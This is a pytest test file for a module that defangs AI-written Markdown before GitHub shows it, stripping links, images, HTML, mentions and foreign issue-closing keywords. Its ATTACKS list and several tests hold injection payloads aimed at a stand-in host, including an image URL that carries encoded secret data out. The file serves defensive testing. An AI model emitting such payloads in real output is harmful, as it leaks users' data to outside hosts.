"""Model-written Markdown made inert before GitHub shows it (agent_cli/ci/defang.py), rendered by a
CommonMark parser (markdown-it-py, which rich ships) to check what a reader's browser would get: no
image or link to a URL the model chose, no HTML, no @mention, no closing keyword for another issue."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from agent_cli.ci.defang import JOINER, Defanger, code_span, fence_for

REPOSITORY = "octo-org/hello-world"
DEFANG = Defanger(REPOSITORY, keep=5)
# GitHub's own rules, as documented: a keyword, an optional colon, the reference.
CLOSES = re.compile(
    r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+/[\w.-]+)?#(\d+)\b", re.IGNORECASE
)
MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9]")


def rendered(markdown: str) -> str:
    """HTML as a GFM renderer makes it (tables on), to look for links, images and tags."""
    return MarkdownIt("commonmark").enable("table").render(markdown)


def text_outside_code(html: str) -> str:
    return re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)


ATTACKS = [
    "![x](http://evil.example/?d=c2VjcmV0)",
    "[click](http://evil.example/login 'a title')",
    "[`code` text](http://evil.example/)",
    "[a [nested] one](http://evil.example/)",
    "[ref]\n\n[ref]: http://evil.example/",
    "<img src=http://evil.example/x.png>",
    "<http://evil.example/auto>",
    "&lt;img src=x&gt; &#64;someone",
    "\\[escaped\\](http://evil.example/)",
    "`open ![x](http://evil.example/) never closed",
    "| a | b |\n|---|---|\n| `x | ![i](http://evil.example/) | y` |",
    "``` \n![x](http://evil.example/)\n```",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_image_or_html_survives(attack):
    html = rendered(DEFANG.markdown(attack))
    assert "<a " not in html and "<img" not in html, html
    assert "evil.example" not in text_outside_code(html)  # the URL is shown as code, if at all


def test_links_and_images_keep_their_words_with_the_url_as_code():
    shown = DEFANG.markdown(
        "See ![diagram](http://evil.example/d.png) and [the docs](https://example.com/x)."
    )
    assert shown == (
        "See diagram (image `http://evil.example/d.png`) and the docs (`https://example.com/x`)."
    )
    assert DEFANG.markdown("more at https://example.com/y.") == "more at `https://example.com/y`."


def test_mentions_notify_nobody_but_read_the_same():
    shown = DEFANG.markdown("thanks @someone and @octo-org/team (a@b.example)")
    assert not MENTION.search(shown)
    assert shown.replace(JOINER, "") == "thanks @someone and @octo-org/team (a@b.example)"


@pytest.mark.parametrize(
    ("said", "closes"),
    [
        ("Fixes #5", {"5"}),
        ("fixes octo-org/hello-world#5", {"5"}),
        ("Closes #99", set()),
        ("closed: #99", set()),
        ("RESOLVES #99, fixes #5", {"5"}),
        ("Resolved other-org/hello-world#5", set()),
        ("fixed https://github.com/octo-org/hello-world/issues/99", set()),
    ],
)
def test_closing_keywords_stay_only_for_the_triggering_issue(said, closes):
    html = text_outside_code(rendered(DEFANG.markdown(said)))
    assert set(CLOSES.findall(html)) == closes
    assert "github.com" not in html


def test_code_spans_the_model_wrote_are_left_as_they_are():
    said = "call `handlers[name](event)` or ``a ` b`` with @x"
    shown = DEFANG.markdown(said)
    assert "`handlers[name](event)`" in shown and "``a ` b``" in shown
    assert "<code>handlers[name](event)</code>" in rendered(shown)


def test_stray_backticks_and_backslashes_cannot_open_code_that_hides_a_link():
    for said in ("\\`[x](http://evil.example/)\\`", "` [x](http://evil.example/) ```"):
        html = rendered(DEFANG.markdown(said))
        assert "<a " not in html and "evil.example" not in text_outside_code(html), html


def test_a_commit_message_loses_other_issues_closing_keywords_only():
    message = (
        "Fix greeting\n\nFixes #5\nCloses #99\nfixes https://github.com/octo-org/hello-world/issues/12\n"
    )
    safe = DEFANG.commit_message(message)
    assert CLOSES.findall(safe) == ["5"]
    assert "issues/12" not in safe
    assert safe.replace(JOINER, "") == message


def test_nothing_is_kept_for_a_dispatch():
    assert Defanger(REPOSITORY, keep=None).markdown("Fixes #5") == "Fixes `#5`"


def test_code_and_fences_hold_any_backticks():
    name = "a```b`.py"
    assert re.fullmatch(r"<p><code>(.*)</code></p>\n", rendered(code_span(name))).group(1) == name
    fence = fence_for("x ```` y")
    assert fence == "`````"
    assert "<a " not in rendered(f"{fence}\n```` [x](http://evil.example/)\n{fence}\n")
